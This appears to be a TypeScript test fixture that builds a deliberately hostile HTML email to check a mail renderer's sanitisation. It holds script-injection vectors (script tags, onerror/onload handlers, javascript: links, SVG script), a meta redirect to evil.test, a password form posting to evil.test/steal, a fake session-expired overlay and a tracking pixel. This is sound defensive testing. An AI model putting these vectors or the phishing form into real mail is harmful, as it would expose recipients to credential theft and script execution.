/**
 * A hand-written hostile HTML mail for the render route and the browser test: scripts in every
 * form we know, event handlers, javascript: links, a form, an overlay, SVG with script, a remote
 * tracking pixel (pointing at the caller's canary), an inline cid: image and an x.html attachment.
 * Every script would set window.__pwned if it ran.
 */
const PIXEL_PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

export const HOSTILE_SUBJECT = 'Hostile mail: your invoice';
export const HOSTILE_ATTACHMENT_HTML = '<html><body><script>window.__pwned = "attachment"</script>attachment page</body></html>';

export function hostileHtml(canaryUrl: string): string {
  return [
    '<html><head><meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/">',
    '<script>window.__pwned = "head"</script><style>.cover{position:fixed;top:0;left:0;right:0;bottom:0;z-index:2147483647;background:#fff}</style></head>',
    '<body onload="window.__pwned = \'onload\'">',
    '<p id="greeting">Dear customer, your invoice is attached.</p>',
    '<script>window.__pwned = "body"</script>',
    '<img src="x" onerror="window.__pwned = \'onerror\'" alt="broken">',
    '<a id="js-link" href="javascript:window.__pwned = \'link\'">Pay now</a>',
    '<a id="real-link" href="https://shop.example/pay">shop</a>',
    '<form action="https://evil.test/steal" method="post"><input name="password" type="password"><button>Sign in</button></form>',
    '<div class="cover">Your session expired, enter your password</div>',
    '<div style="position:absolute;top:0;left:0;width:100%;height:100%;z-index:99999">overlay</div>',
    '<svg width="10" height="10"><script>window.__pwned = "svg"</script><circle r="5" onload="window.__pwned = \'svg-onload\'"/></svg>',
    '<iframe src="javascript:parent.__pwned = \'iframe\'"></iframe><object data="javascript:alert(1)"></object>',
    '<img id="logo" src="cid:logo@hostile.test" alt="logo">',
    `<img id="pixel" src="${canaryUrl}" width="1" height="1" alt="">`,
    '</body></html>',
  ].join('\r\n');
}

export function hostileMessage(options: { canaryUrl: string; to: string; messageId: string }): Buffer {
  const b = 'hostile-boundary-1';
  const rel = 'hostile-boundary-2';
  const base64 = (s: string) => Buffer.from(s).toString('base64').replace(/.{76}/g, '$&\r\n');
  return Buffer.from(
    [
      'From: "Billing" <billing@shop.example>',
      `To: ${options.to}`,
      `Subject: ${HOSTILE_SUBJECT}`,
      `Message-ID: <${options.messageId}>`,
      'Date: Sat, 28 Nov 2026 09:00:00 +0000',
      'MIME-Version: 1.0',
      `Content-Type: multipart/mixed; boundary="${b}"`,
      '',
      `--${b}`,
      `Content-Type: multipart/related; boundary="${rel}"`,
      '',
      `--${rel}`,
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: base64',
      '',
      base64(hostileHtml(options.canaryUrl)),
      `--${rel}`,
      'Content-Type: image/png',
      'Content-Transfer-Encoding: base64',
      'Content-ID: <logo@hostile.test>',
      'Content-Disposition: inline; filename="logo.png"',
      '',
      PIXEL_PNG,
      `--${rel}--`,
      `--${b}`,
      'Content-Type: text/html; charset=utf-8; name="x.html"',
      'Content-Disposition: attachment; filename="x.html"',
      'Content-Transfer-Encoding: base64',
      '',
      base64(HOSTILE_ATTACHMENT_HTML),
      `--${b}--`,
      '',
    ].join('\r\n'),
  );
}

export const INLINE_PNG_BASE64 = PIXEL_PNG;
